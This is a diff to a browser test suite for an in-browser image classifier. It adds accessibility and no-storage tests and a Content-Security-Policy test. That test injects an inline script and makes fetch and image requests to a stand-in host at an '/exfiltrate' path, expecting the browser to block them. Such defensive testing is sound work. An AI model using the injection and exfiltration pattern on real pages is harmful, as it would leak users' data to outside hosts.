@@ -135,6 +135,13 @@ async function backendSuite(browser, backend) {
       console.log(`#   ${name}: top ${got.top}, Grad-CAM r = ${r.toFixed(5)}; ${got.timings}`);
     });
   }
+  await t.test(`${backend}: the keyboard alone opens the image chooser`, async () => {
+    await page.focus("#drop-zone");
+    const [chooser] = await Promise.all([page.waitForEvent("filechooser", WAIT), page.keyboard.press("Enter")]);
+    await page.evaluate(() => delete document.getElementById("result").dataset.top);
+    await chooser.setFiles(images[images.length - 1]);
+    await page.waitForSelector("#result[data-top]", { state: "attached", ...WAIT });
+  });
   await t.test(`${backend}: the class selector explains another class`, async () => {
     const file = images[images.length - 1]; // the image on screen
     const current = await page.evaluate(() => document.getElementById("result").dataset.top);
@@ -191,11 +198,57 @@ async function backendSuite(browser, backend) {
     check(urls.some((u) => u.endsWith(".wasm")), "the watcher did not see the wasm download");
     console.log(`#   ${net.requests.length} requests, all GET on loopback`);
   });
+  await t.test(`${backend}: no image data is kept in browser storage`, async () => {
+    const stored = await page.evaluate(async () => ({
+      local: localStorage.length,
+      session: sessionStorage.length,
+      indexedDB: (await indexedDB.databases()).length,
+      caches: (await caches.keys()).length,
+      cookies: document.cookie.length,
+    }));
+    check(Object.values(stored).every((n) => n === 0), `something was stored: ${JSON.stringify(stored)}`);
+  });
   await t.test(`${backend}: no errors in the console`, async () => {
     // The broken upload is reported in #error, not as an uncaught error.
     check(errors.length === 0, `console errors: ${errors.join(" | ")}`);
   });
   await context.close();
+}
+
+async function policySuite(browser) {
+  await t.test("the Content-Security-Policy blocks injected scripts and cross-origin requests", async () => {
+    const { context, net, page } = await visit(browser, "cpu");
+    await page.goto(args.url);
+    const outcome = await page.evaluate(async () => {
+      const violations = [];
+      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
+      const s = document.createElement("script");
+      s.textContent = "window.__injected = true;";
+      document.head.append(s);
+      let fetched = "not blocked";
+      try {
+        await fetch("http://192.0.2.1/exfiltrate", { mode: "no-cors" });
+      } catch (e) {
+        fetched = "blocked";
+      }
+      const img = new Image();
+      const imgLoaded = await new Promise((resolve) => {
+        img.onload = () => resolve(true);
+        img.onerror = () => resolve(false);
+        img.src = "http://192.0.2.1/pixel.png";
+      });
+      await new Promise((r) => setTimeout(r, 200));
+      return { injected: window.__injected === true, fetched, imgLoaded, violations };
+    });
+    check(!outcome.injected, "an injected inline script ran");
+    check(outcome.fetched === "blocked", "a cross-origin fetch was not blocked");
+    check(!outcome.imgLoaded, "a cross-origin image loaded");
+    for (const d of ["script-src-elem", "connect-src", "img-src"]) {
+      check(outcome.violations.includes(d), `no ${d} violation reported: ${outcome.violations}`);
+    }
+    check(!net.requests.some((r) => r.url.includes("192.0.2.1")), "a blocked request still reached the network");
+    await context.close();
+  });
 }
 
 async function negativeControl(browser) {
@@ -276,6 +329,7 @@ try {
   });
   for (const backend of (args.backends || "cpu,webgpu").split(",")) await backendSuite(browser, backend);
   await embedSuite(browser);
+  await policySuite(browser);
   await negativeControl(browser);
 } finally {
   await browser.close();
